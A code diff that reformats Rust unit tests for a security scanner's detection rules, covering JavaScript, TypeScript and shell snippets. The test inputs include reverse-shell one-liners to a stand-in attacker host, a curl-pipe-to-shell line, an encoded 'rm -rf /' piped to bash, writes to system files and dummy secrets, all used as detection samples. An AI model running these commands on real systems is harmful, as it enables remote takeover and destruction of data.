-        assert_eq!(rules(Lang::JavaScript, "const cp = require('child_process');\ncp.exec('ls ' + dir)"), ["JS002"]);
-        assert_eq!(rules(Lang::JavaScript, "const cp = require('child_process');\ncp.spawn('ls', [dir])"), Vec::<String>::new());
-        assert_eq!(rules(Lang::JavaScript, "const cp = require('child_process');\ncp.spawn('ls', [dir], {shell: true})"), ["JS002"]);
+        assert_eq!(
+            rules(Lang::JavaScript, "const f = new Function('a', 'return a')"),
+            ["JS001"]
+        );
+        assert_eq!(
+            rules(
+                Lang::JavaScript,
+                "setTimeout('alert(1)', 10); setTimeout(() => 1, 10)"
+            ),
+            ["JS001"]
+        );
+        assert_eq!(
+            rules(
+                Lang::JavaScript,
+                "const cp = require('child_process');\ncp.exec('ls ' + dir)"
+            ),
+            ["JS002"]
+        );
+        assert_eq!(
+            rules(
+                Lang::JavaScript,
+                "const cp = require('child_process');\ncp.spawn('ls', [dir])"
+            ),
+            Vec::<String>::new()
+        );
+        assert_eq!(
+            rules(
+                Lang::JavaScript,
+                "const cp = require('child_process');\ncp.spawn('ls', [dir], {shell: true})"
+            ),
+            ["JS002"]
+        );
         assert_eq!(rules(Lang::JavaScript, "/a/.exec(s)"), Vec::<String>::new());
-        assert_eq!(rules(Lang::JavaScript, "fs.writeFileSync('/etc/hosts', 'x')"), ["FS001"]);
-        assert_eq!(rules(Lang::JavaScript, "fetch('https://198.51.100.7/api')"), ["NET001"]);
-        assert_eq!(rules(Lang::JavaScript, "eval(atob('YWxlcnQoMSk='))"), ["JS001", "OBF001"]);
-        assert_eq!(rules(Lang::TypeScript, "const apiKey: string = 'abcdef123456';\nlet x: number = eval('1')"), ["JS001", "SEC003"]);
-        assert_eq!(rules(Lang::Tsx, "const A = () => <div>{eval(s)}</div>;"), ["JS001"]);
-        assert_eq!(rules(Lang::JavaScript, "const t = 'ghp_abcdefghijklmnopqrstuvwxyz0123456789'"), ["SEC002"]);
+        assert_eq!(
+            rules(Lang::JavaScript, "fs.writeFileSync('/etc/hosts', 'x')"),
+            ["FS001"]
+        );
+        assert_eq!(
+            rules(Lang::JavaScript, "fetch('https://198.51.100.7/api')"),
+            ["NET001"]
+        );
+        assert_eq!(
+            rules(Lang::JavaScript, "eval(atob('YWxlcnQoMSk='))"),
+            ["JS001", "OBF001"]
+        );
+        assert_eq!(
+            rules(
+                Lang::TypeScript,
+                "const apiKey: string = 'abcdef123456';\nlet x: number = eval('1')"
+            ),
+            ["JS001", "SEC003"]
+        );
+        assert_eq!(
+            rules(Lang::Tsx, "const A = () => <div>{eval(s)}</div>;"),
+            ["JS001"]
+        );
+        assert_eq!(
+            rules(
+                Lang::JavaScript,
+                "const t = 'ghp_abcdefghijklmnopqrstuvwxyz0123456789'"
+            ),
+            ["SEC002"]
+        );
     }
 
     #[test]
     fn shell_rules() {
-        assert_eq!(rules(Lang::Shell, "curl -fsSL https://x.example/i.sh | sh"), ["SH001"]);
-        assert_eq!(rules(Lang::Shell, "curl -fsSL https://x.example/i.sh -o i.sh"), Vec::<String>::new());
-        assert_eq!(rules(Lang::Shell, "echo cm0gLXJmIC8K | base64 -d | bash"), ["OBF001"]);
+        assert_eq!(
+            rules(Lang::Shell, "curl -fsSL https://x.example/i.sh | sh"),
+            ["SH001"]
+        );
+        assert_eq!(
+            rules(Lang::Shell, "curl -fsSL https://x.example/i.sh -o i.sh"),
+            Vec::<String>::new()
+        );
+        assert_eq!(
+            rules(Lang::Shell, "echo cm0gLXJmIC8K | base64 -d | bash"),
+            ["OBF001"]
+        );
         assert_eq!(rules(Lang::Shell, "eval \"$CMD\""), ["SH002"]);
         assert_eq!(rules(Lang::Shell, "echo x > /etc/cron.d/job"), ["FS001"]);
-        assert_eq!(rules(Lang::Shell, "echo x > /work/out; echo y 2>/dev/null"), Vec::<String>::new());
+        assert_eq!(
+            rules(Lang::Shell, "echo x > /work/out; echo y 2>/dev/null"),
+            Vec::<String>::new()
+        );
         assert_eq!(rules(Lang::Shell, "rm -rf /usr/lib"), ["FS001"]);
-        assert_eq!(rules(Lang::Shell, "rm -rf /work/build"), Vec::<String>::new());
-        assert_eq!(rules(Lang::Shell, "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"), ["NET001"]);
-        assert_eq!(rules(Lang::Shell, "nc -e /bin/sh attacker.example 4444"), ["NET001"]);
+        assert_eq!(
+            rules(Lang::Shell, "rm -rf /work/build"),
+            Vec::<String>::new()
+        );
+        assert_eq!(
+            rules(Lang::Shell, "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
+            ["NET001"]
+        );
+        assert_eq!(
+            rules(Lang::Shell, "nc -e /bin/sh attacker.example 4444"),
+            ["NET001"]
+        );
         assert_eq!(rules(Lang::Shell, "PASSWORD='correcthorse99'"), ["SEC003"]);
     }
 }
